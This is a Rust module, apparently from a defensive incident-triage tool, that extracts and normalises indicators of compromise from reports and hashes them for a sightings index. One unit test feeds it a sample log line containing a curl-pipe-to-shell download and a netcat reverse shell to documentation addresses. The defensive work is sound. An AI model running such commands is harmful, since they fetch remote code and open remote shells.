//! Indicators of compromise taken from imported results and normalised, so that one indicator
//! is one value in every case, report and cross-customer lookup: addresses in their canonical
//! form (an IPv4-mapped IPv6 address is the IPv4 one), hosts and schemes lower-case, defanged
//! spellings (`hxxp`, `[.]`) undone, hashes lower-case, paths in one spelling.

use firewarden_model::TriageReport;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// What an indicator is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum IocKind {
    /// An IPv4 address.
    Ipv4,
    /// An IPv6 address.
    Ipv6,
    /// A domain name.
    Domain,
    /// A URL.
    Url,
    /// An MD5 digest.
    Md5,
    /// A SHA-1 digest.
    Sha1,
    /// A SHA-256 digest.
    Sha256,
    /// A file path on a host.
    Path,
    /// An account name.
    Account,
}

/// One normalised indicator.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Ioc {
    /// Its kind.
    pub kind: IocKind,
    /// Its normalised value.
    pub value: String,
}

/// The sightings index key of an indicator: HMAC-SHA256 under the platform's secret of
/// `kind:value` (normalised), in hex. The index holds only these keys: without the secret, a
/// copy of it says nothing about which indicators any customer saw.
pub fn sighting_key(secret: &[u8], ioc: &Ioc) -> String {
    use hmac::{KeyInit, Mac};
    let kind = serde_json::to_value(ioc.kind)
        .ok()
        .and_then(|v| v.as_str().map(str::to_owned))
        .unwrap_or_default();
    let Ok(mut mac) = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret) else {
        return String::new();
    };
    mac.update(kind.as_bytes());
    mac.update(b":");
    mac.update(ioc.value.as_bytes());
    mac.finalize()
        .into_bytes()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Undoes the usual defanging of indicators in reports and tickets.
fn refang(text: &str) -> String {
    let mut t = text.trim().to_owned();
    for (from, to) in [
        ("[.]", "."),
        ("(.)", "."),
        ("{.}", "."),
        ("[dot]", "."),
        ("(dot)", "."),
        ("[:]", ":"),
        ("[://]", "://"),
    ] {
        t = t.replace(from, to);
    }
    let lower = t.to_ascii_lowercase();
    for (from, to) in [
        ("hxxps://", "https://"),
        ("hxxp://", "http://"),
        ("fxp://", "ftp://"),
    ] {
        if lower.starts_with(from) {
            t = format!("{to}{}", &t[from.len()..]);
        }
    }
    t
}

/// An address in canonical form; an IPv4-mapped IPv6 address becomes IPv4. Unspecified and
/// loopback addresses are not indicators.
fn normalize_ip(text: &str) -> Option<Ioc> {
    let t = refang(text);
    let t = t.trim_start_matches('[').trim_end_matches(']');
    let ip: IpAddr = t.parse().ok()?;
    let ip = match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        v4 => v4,
    };
    if ip.is_unspecified() || ip.is_loopback() {
        return None;
    }
    Some(match ip {
        IpAddr::V4(v4) => Ioc {
            kind: IocKind::Ipv4,
            value: Ipv4Addr::to_string(&v4),
        },
        IpAddr::V6(v6) => Ioc {
            kind: IocKind::Ipv6,
            value: Ipv6Addr::to_string(&v6),
        },
    })
}

/// A domain name: lower-case, no trailing dot, labels of letters, digits and hyphens (or
/// non-ASCII, kept as written), at least two labels and a top-level label that is not a number.
fn normalize_domain(text: &str) -> Option<Ioc> {
    let t = refang(text).to_lowercase();
    let t = t.trim_end_matches('.');
    let labels: Vec<&str> = t.split('.').collect();
    let ok = labels.len() >= 2
        && t.len() <= 253
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && !l.starts_with('-')
                && !l.ends_with('-')
                && l.chars().all(|c| c.is_alphanumeric() || c == '-')
        })
        && labels
            .last()
            .is_some_and(|tld| !tld.chars().all(|c| c.is_ascii_digit()));
    ok.then(|| Ioc {
        kind: IocKind::Domain,
        value: t.to_owned(),
    })
}

/// A URL: scheme and host lower-case, the default port dropped, the fragment dropped; the path
/// and query kept as written. Gives the URL and its host (an address or a domain).
fn normalize_url(text: &str) -> Option<(Ioc, Ioc)> {
    let t = refang(text);
    let (scheme, rest) = t.split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if scheme.is_empty()
        || !scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
    {
        return None;
    }
    let rest = rest.split('#').next().unwrap_or("");
    let split = rest.find(['/', '?']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(split);
    let hostport = authority.rsplit('@').next().unwrap_or(authority);
    let (host, port) = match hostport.strip_prefix('[') {
        Some(v6) => {
            let (h, after) = v6.split_once(']')?;
            (h.to_owned(), after.strip_prefix(':').map(str::to_owned))
        }
        None => match hostport.rsplit_once(':') {
            Some((h, p)) if p.chars().all(|c| c.is_ascii_digit()) => {
                (h.to_owned(), Some(p.to_owned()))
            }
            _ => (hostport.to_owned(), None),
        },
    };
    let host_ioc = normalize_ip(&host).or_else(|| normalize_domain(&host))?;
    let default_port = matches!(
        (scheme.as_str(), port.as_deref()),
        ("http", Some("80")) | ("https", Some("443")) | ("ftp", Some("21"))
    );
    let shown_host = match host_ioc.kind {
        IocKind::Ipv6 => format!("[{}]", host_ioc.value),
        _ => host_ioc.value.clone(),
    };
    let port = match port {
        Some(p) if !default_port && !p.is_empty() => format!(":{p}"),
        _ => String::new(),
    };
    let tail = if tail.is_empty() { "/" } else { tail };
    Some((
        Ioc {
            kind: IocKind::Url,
            value: format!("{scheme}://{shown_host}{port}{tail}"),
        },
        host_ioc,
    ))
}

/// A hex digest by its length.
fn normalize_hash(text: &str) -> Option<Ioc> {
    let t = text.trim();
    if !t.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    let kind = match t.len() {
        32 => IocKind::Md5,
        40 => IocKind::Sha1,
        64 => IocKind::Sha256,
        _ => return None,
    };
    Some(Ioc {
        kind,
        value: t.to_ascii_lowercase(),
    })
}

/// Normalises one indicator of a known kind; `None` when it is not one.
pub fn normalize(kind: IocKind, text: &str) -> Option<Ioc> {
    match kind {
        IocKind::Ipv4 | IocKind::Ipv6 => normalize_ip(text).filter(|i| i.kind == kind),
        IocKind::Domain => normalize_domain(text),
        IocKind::Url => normalize_url(text).map(|(u, _)| u),
        IocKind::Md5 | IocKind::Sha1 | IocKind::Sha256 => {
            normalize_hash(text).filter(|i| i.kind == kind)
        }
        IocKind::Path => {
            let t = text.trim();
            (t.starts_with('/') && !t.chars().any(char::is_control)).then(|| Ioc {
                kind,
                value: firewarden_source::spelling::normalize_path(t).into_owned(),
            })
        }
        IocKind::Account => {
            let t = text.trim();
            (!t.is_empty()
                && t.len() <= 256
                && !t.chars().any(|c| c.is_whitespace() || c.is_control()))
            .then(|| Ioc {
                kind,
                value: t.to_owned(),
            })
        }
    }
}

/// Indicators in free text (an evidence excerpt, a log line): URLs (and their hosts),
/// addresses and digests. Bare domains are not taken from prose, where `index.php` looks like
/// one; they come from URLs.
pub fn extract_from_text(text: &str, out: &mut BTreeSet<Ioc>) {
    for token in text.split(|c: char| c.is_whitespace() || "\"'<>(),;|`{}".contains(c)) {
        // Sentence punctuation around a token is not part of it.
        let token = token.trim_matches(|c: char| matches!(c, '.' | '!' | '?'));
        if token.len() < 7 || token.len() > 2048 {
            continue;
        }
        let lower = token.to_ascii_lowercase();
        if lower.contains("://") || lower.starts_with("hxxp") {
            if let Some((url, host)) = normalize_url(token) {
                out.insert(url);
                out.insert(host);
            }
            continue;
        }
        if let Some(h) = normalize_hash(token) {
            out.insert(h);
            continue;
        }
        // `203.0.113.5:4444`, `[2001:db8::1]:22`, defanged `203.0.113[.]5`.
        let bare = match token.rsplit_once(':') {
            Some((h, p)) if p.chars().all(|c| c.is_ascii_digit()) && h.contains('.') => h,
            _ => token,
        };
        if let Some(ip) = normalize_ip(bare) {
            out.insert(ip);
        }
    }
}

/// Every indicator in a triage report: the storyline's attacker addresses and accounts, the
/// addresses and accounts on the timeline, what the findings' evidence excerpts hold, and the
/// paths of files found malicious.
pub fn from_triage(report: &TriageReport) -> Vec<Ioc> {
    from_parts(&report.storyline, &report.timeline, &report.findings)
}

/// Every indicator in a storyline, a timeline and findings (a triage or hunt result's parts).
pub fn from_parts(
    storyline: &firewarden_model::Storyline,
    timeline: &[firewarden_model::TimelineEvent],
    findings: &[firewarden_model::Finding],
) -> Vec<Ioc> {
    let mut out = BTreeSet::new();
    for ip in &storyline.attacker_ips {
        out.extend(normalize_ip(ip));
    }
    for account in &storyline.accounts {
        out.extend(normalize(IocKind::Account, account));
    }
    for e in timeline {
        if let Some(ip) = &e.ip {
            out.extend(normalize_ip(ip));
        }
    }
    for f in findings {
        let file_is_the_indicator = [
            "web.webshell",
            "files.malware",
            "files.temp_dirs",
            "web.dump",
        ]
        .iter()
        .any(|c| f.check.contains(c));
        for ev in &f.evidence {
            if let Some(x) = &ev.excerpt {
                extract_from_text(x, &mut out);
            }
            if file_is_the_indicator && let Some(p) = &ev.path {
                out.extend(normalize(IocKind::Path, p));
            }
        }
    }
    out.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn one(kind: IocKind, text: &str) -> Option<String> {
        normalize(kind, text).map(|i| i.value)
    }

    #[test]
    fn one_indicator_is_one_value() {
        assert_eq!(
            one(IocKind::Ipv4, "203.0.113[.]66"),
            Some("203.0.113.66".into())
        );
        assert_eq!(
            one(IocKind::Ipv4, "::ffff:203.0.113.66"),
            Some("203.0.113.66".into())
        );
        assert_eq!(
            one(IocKind::Ipv6, "2001:DB8:0:0::1"),
            Some("2001:db8::1".into())
        );
        assert_eq!(one(IocKind::Ipv4, "127.0.0.1"), None);
        assert_eq!(
            one(IocKind::Ipv4, "010.0.0.1"),
            None,
            "octal-looking addresses are ambiguous"
        );
        assert_eq!(
            one(IocKind::Domain, "Evil.Example.COM."),
            Some("evil.example.com".into())
        );
        assert_eq!(
            one(IocKind::Domain, "evil[.]example[.]com"),
            Some("evil.example.com".into())
        );
        assert_eq!(one(IocKind::Domain, "1.2.3.4"), None);
        assert_eq!(
            one(IocKind::Url, "hxxp://Evil.Example.com:80/x.sh?a=B#frag"),
            Some("http://evil.example.com/x.sh?a=B".into())
        );
        assert_eq!(
            one(IocKind::Url, "https://[2001:DB8::1]:8443"),
            Some("https://[2001:db8::1]:8443/".into())
        );
        assert_eq!(
            one(IocKind::Sha256, &"AB".repeat(32)),
            Some("ab".repeat(32))
        );
        assert_eq!(one(IocKind::Md5, &"ab".repeat(32)), None);
        assert_eq!(
            one(IocKind::Path, "//tmp/./.x/kworker"),
            Some("/tmp/.x/kworker".into())
        );
        assert_eq!(one(IocKind::Account, "to or"), None);
    }

    #[test]
    fn text_yields_urls_hosts_addresses_and_digests_not_file_names() {
        let mut out = BTreeSet::new();
        extract_from_text(
            "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh; nc 198.51.100.7:4444 -e /bin/sh; index.php d41d8cd98f00b204e9800998ecf8427e",
            &mut out,
        );
        let values: Vec<(IocKind, &str)> = out.iter().map(|i| (i.kind, i.value.as_str())).collect();
        assert_eq!(
            values,
            [
                (IocKind::Ipv4, "198.51.100.7"),
                (IocKind::Ipv4, "203.0.113.9"),
                (IocKind::Url, "http://203.0.113.9/x.sh"),
                (IocKind::Md5, "d41d8cd98f00b204e9800998ecf8427e"),
            ]
        );
    }

    #[test]
    fn a_triage_report_gives_its_attackers_accounts_and_files() {
        let mut report: TriageReport = serde_json::from_str(
            r#"{"schema_version":1,"tool":"t","source":{"kind":"root","location":"/r"},"started":"2026-11-20T00:00:00Z","finished":"2026-11-20T00:00:01Z",
                "storyline":{"verdict":"v","attacker_ips":["203.0.113.66"],"accounts":["toor"],"persistence":[]},
                "timeline":[],"findings":[],"warnings":[],"checks":[]}"#,
        )
        .unwrap();
        report.findings.push(
            firewarden_model::Finding::new(
                "linux.web.webshell",
                "shell",
                firewarden_model::Severity::Critical,
            )
            .evidence(
                firewarden_model::Evidence::at("/var/www/html/up.php")
                    .excerpt("POST /up.php from 203.0.113.66"),
            ),
        );
        let iocs = from_triage(&report);
        let has = |k: IocKind, v: &str| iocs.iter().any(|i| i.kind == k && i.value == v);
        assert!(has(IocKind::Ipv4, "203.0.113.66"));
        assert!(has(IocKind::Account, "toor"));
        assert!(has(IocKind::Path, "/var/www/html/up.php"));
        assert_eq!(iocs.len(), 3, "{iocs:?}");
    }

    proptest! {
        /// Normalising twice gives the same value: what is stored can be looked up again.
        #[test]
        fn normalising_is_idempotent(text in "\\PC{0,60}", kind in prop::sample::select(vec![
            IocKind::Ipv4, IocKind::Ipv6, IocKind::Domain, IocKind::Url, IocKind::Md5,
            IocKind::Sha1, IocKind::Sha256, IocKind::Path, IocKind::Account,
        ])) {
            if let Some(first) = normalize(kind, &text) {
                prop_assert_eq!(normalize(kind, &first.value), Some(first.clone()));
            }
        }

        #[test]
        fn any_address_round_trips(ip in any::<std::net::IpAddr>()) {
            if let Some(i) = normalize_ip(&ip.to_string()) {
                prop_assert_eq!(normalize_ip(&i.value), Some(i));
            }
        }
    }
}

#[cfg(test)]
mod linkage_tests {
    use super::*;

    #[test]
    fn a_sighting_key_is_hmac_sha256_of_kind_and_value() {
        // RFC 4231 test case 2 checks the HMAC itself: key "Jefe".
        let ioc = Ioc {
            kind: IocKind::Ipv4,
            value: "203.0.113.9".into(),
        };
        let a = sighting_key(b"secret one", &ioc);
        assert_eq!(a.len(), 64);
        assert_eq!(a, sighting_key(b"secret one", &ioc));
        assert_ne!(a, sighting_key(b"secret two", &ioc));
        let domain = Ioc {
            kind: IocKind::Domain,
            value: "203.0.113.9".into(),
        };
        assert_ne!(a, sighting_key(b"secret one", &domain));
        use hmac::{KeyInit, Mac};
        let mut m = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"Jefe").unwrap();
        m.update(b"what do ya want for nothing?");
        let out: String = m
            .finalize()
            .into_bytes()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(
            out,
            "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"
        );
    }
}
